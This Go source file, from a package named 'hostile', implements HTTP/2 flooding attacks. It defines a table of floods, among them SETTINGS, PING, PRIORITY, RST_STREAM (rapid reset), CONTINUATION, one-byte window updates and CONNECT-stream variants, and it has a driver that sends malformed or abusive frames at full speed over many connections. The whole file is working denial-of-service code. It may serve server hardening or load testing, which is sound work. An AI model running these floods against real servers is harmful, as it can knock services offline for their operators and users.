package hostile

import (
	"bytes"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is a flood of HTTP/2 frames on a connection.
type flood struct {
	window uint32         // SETTINGS_INITIAL_WINDOW_SIZE of the attacker; 0: the default
	begin  func(*h2)      // after the SETTINGS
	unit   func(*h2, int) // one unit of the flood
}

// streams of a flood that has some open.
const floodStreams = 100

var floods = map[string]flood{
	"settings": {begin: openMany("/delay/1h"), unit: func(h *h2, i int) {
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535 + uint32(i%2)})
	}},
	"settingsBare": {unit: func(h *h2, i int) {
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 4096)})
	}},
	"priority": {begin: openMany("/delay/1h"), unit: func(h *h2, _ int) { _ = h.fr.WritePriority(1, http2.PriorityParam{}) }},
	"unknown":  {unit: func(h *h2, _ int) { _ = h.fr.WriteRawFrame(0xfa, 0, 0, nil) }},
	"update1": {begin: openMany("/delay/1h"), unit: func(h *h2, i int) {
		_ = h.fr.WriteWindowUpdate(uint32(i%floodStreams)*2+1, 1)
	}},
	"updateConn1": {unit: func(h *h2, _ int) { _ = h.fr.WriteWindowUpdate(0, 1) }},
	"data1":       {begin: openUploads, unit: func(h *h2, i int) { h.data(uint32(i%8)*2+1, []byte{0}) }},
	"emptyData":   {begin: openUploads, unit: func(h *h2, i int) { h.data(uint32(i%8)*2+1, nil) }},
	// A window of 1 byte, given anew for each byte.
	"window1": {window: 1, begin: openMany("/bytes/1000000000"), unit: func(h *h2, i int) {
		_ = h.fr.WriteWindowUpdate(uint32(i%floodStreams)*2+1, 1)
		if i%1000 == 0 {
			_ = h.fr.WriteWindowUpdate(0, 1000)
		}
	}},
	"trailersClosed": {begin: func(h *h2) { h.open("GET", "/bytes/1", true); h.flush(); time.Sleep(100 * time.Millisecond) }, unit: func(h *h2, _ int) {
		h.headers(1, true, "a", "b")
	}},
	"continuation": {unit: func(h *h2, i int) {
		if i%60 == 0 {
			_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.nextID(), BlockFragment: h.block(":method", "GET", ":scheme", "http", ":path", "/bytes/1", ":authority", "x"), EndStream: true})
		}
		_ = h.fr.WriteContinuation(h.next-2, i%60 == 59, nil)
	}},
	"ping": {unit: func(h *h2, _ int) { _ = h.fr.WritePing(false, [8]byte{}) }},
	"reset": {unit: func(h *h2, _ int) {
		_ = h.fr.WriteRSTStream(h.open("GET", "/delay/1h", true), http2.ErrCodeCancel)
	}},
	"notFound": {unit: func(h *h2, _ int) { h.open("GET", "/status/404", true) }},
	// Streams of connections that agents share for HTTP/1.
	"muxReset": {unit: func(h *h2, _ int) {
		id := h.connect()
		_ = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}},
	"muxData1": {begin: func(h *h2) {
		for range 8 {
			id := h.connect()
			h.data(id, []byte("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n"))
		}
	}, unit: func(h *h2, i int) { h.data(uint32(i%8)*2+1, []byte{0}) }},
	"muxSettings": {begin: func(h *h2) {
		for range 60 {
			h.connect()
		}
	}, unit: func(h *h2, i int) {
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535 + uint32(i%2)})
	}},
	// Streams of connections that agents share for opaque connections, to a server of HTTP.
	"streamsReset": {unit: func(h *h2, _ int) {
		_ = h.fr.WriteRSTStream(h.stream(), http2.ErrCodeCancel)
	}},
	"streamsUnread": {unit: func(h *h2, i int) { // the last 60 stay open
		id := h.stream()
		h.data(id, []byte("GET /bytes/1000000000 HTTP/1.1\r\nHost: x\r\n\r\n"))
		if i >= 60 {
			_ = h.fr.WriteRSTStream(id-120, http2.ErrCodeCancel)
		}
	}},
	"streamsWindow1": {window: 1, begin: func(h *h2) {
		for range 60 {
			h.data(h.stream(), []byte("GET /bytes/1000000000 HTTP/1.1\r\nHost: x\r\n\r\n"))
		}
	}, unit: func(h *h2, i int) {
		_ = h.fr.WriteWindowUpdate(uint32(i%60)*2+1, 1)
		if i%1000 == 0 {
			_ = h.fr.WriteWindowUpdate(0, 1000)
		}
	}},
	"streamsData1": {begin: func(h *h2) {
		for range 8 {
			h.data(h.stream(), []byte("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n"))
		}
	}, unit: func(h *h2, i int) { h.data(uint32(i%8)*2+1, []byte{0}) }},
	"muxPing": {unit: func(h *h2, _ int) { _ = h.fr.WritePing(false, [8]byte{}) }},
}

func openMany(path string) func(*h2) {
	return func(h *h2) {
		for range floodStreams {
			h.open("GET", path, true)
		}
	}
}

func openUploads(h *h2) {
	for range 8 {
		h.open("POST", "/", false)
	}
}

// flood sends a flood of frames on each connection, as fast as they are taken.
func (a *assault) flood(f flood) {
	a.each(func(int) {
		c, err := a.dial()
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			return
		}
		defer c.Close()
		h := newH2(c, f.window)
		go h.read(a)
		if f.begin != nil {
			f.begin(h)
		}
		err = h.flush()
		for i := 0; err == nil && !a.over(); {
			units, before := 0, i
			for ; h.out.Len() < 32<<10 && units < 4096; units++ {
				f.unit(h, i)
				i++
			}
			n := h.out.Len()
			if err = h.flush(); err == nil {
				a.sent.Add(int64(i - before))
				a.sentBytes.Add(int64(n))
			}
		}
		a.cut(err)
	})
}

// h2 is a client of HTTP/2 that writes what it likes and keeps to its peer's windows.
type h2 struct {
	c    net.Conn
	out  bytes.Buffer
	fr   *http2.Framer
	enc  *hpack.Encoder
	buf  bytes.Buffer
	next uint32

	mu      sync.Mutex
	changed sync.Cond
	conn    int64            // bytes that may be sent
	streams map[uint32]int64 // likewise, as the difference to the initial window
	initial int64
	ended   error
}

func newH2(c net.Conn, window uint32) *h2 {
	h := &h2{c: c, next: 1, conn: 65_535, initial: 65_535, streams: map[uint32]int64{}}
	h.changed.L = &h.mu
	h.fr = http2.NewFramer(&h.out, nil)
	h.fr.AllowIllegalWrites = true
	h.enc = hpack.NewEncoder(&h.buf)
	h.out.WriteString(http2.ClientPreface)
	if window == 0 {
		_ = h.fr.WriteSettings()
	} else {
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	return h
}

func (h *h2) flush() error {
	_, err := h.c.Write(h.out.Bytes())
	h.out.Reset()
	return err
}

func (h *h2) nextID() uint32 {
	h.next += 2
	return h.next - 2
}

func (h *h2) block(fields ...string) []byte {
	h.buf.Reset()
	for i := 0; i < len(fields); i += 2 {
		_ = h.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return h.buf.Bytes()
}

func (h *h2) headers(id uint32, end bool, fields ...string) {
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(fields...), EndHeaders: true, EndStream: end})
}

func (h *h2) open(method, path string, end bool) uint32 {
	id := h.nextID()
	h.headers(id, end, ":method", method, ":scheme", "http", ":path", path, ":authority", "x")
	return id
}

// connect opens a stream as agents do for an HTTP/1 connection.
func (h *h2) connect() uint32 {
	id := h.nextID()
	h.headers(id, false, ":method", "CONNECT", ":authority", "http:80")
	return id
}

// stream opens a stream as agents do for an opaque connection.
func (h *h2) stream() uint32 {
	id := h.nextID()
	h.headers(id, false, ":method", "CONNECT", ":authority", "tcp:40000")
	return id
}

// data writes a DATA frame, and waits while the windows have no room for it.
func (h *h2) data(id uint32, p []byte) {
	n := int64(len(p))
	h.mu.Lock()
	for n > 0 && h.ended == nil && (h.conn < n || h.initial+h.streams[id] < n) {
		h.mu.Unlock()
		if h.out.Len() > 0 && h.flush() != nil {
			return
		}
		h.mu.Lock()
		if h.ended == nil && (h.conn < n || h.initial+h.streams[id] < n) {
			h.changed.Wait()
		}
	}
	h.conn -= n
	h.streams[id] -= n
	h.mu.Unlock()
	_ = h.fr.WriteData(id, false, p)
}

// read reads frames to the end of the connection: windows are followed, answers are
// counted.
func (h *h2) read(a *assault) {
	in := http2.NewFramer(io.Discard, &counting{h.c, a})
	err := error(nil)
	for err == nil {
		var f http2.Frame
		f, err = in.ReadFrame()
		var stream http2.StreamError
		if errors.As(err, &stream) {
			err = nil
			continue
		}
		h.mu.Lock()
		switch f := f.(type) {
		case *http2.HeadersFrame:
			a.got.Add(1)
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				h.conn += int64(f.Increment)
			} else {
				h.streams[f.StreamID] += int64(f.Increment)
			}
		case *http2.SettingsFrame:
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				h.initial = int64(v)
			}
		case *http2.GoAwayFrame:
			a.note(errors.New("GOAWAY " + f.ErrCode.String() + " " + string(f.DebugData())))
		}
		h.changed.Broadcast()
		h.mu.Unlock()
	}
	h.mu.Lock()
	h.ended = err
	h.changed.Broadcast()
	h.mu.Unlock()
}

// counting counts what is read.
type counting struct {
	io.Reader
	a *assault
}

func (c *counting) Read(p []byte) (int, error) {
	n, err := c.Reader.Read(p)
	c.a.gotBytes.Add(int64(n))
	return n, err
}
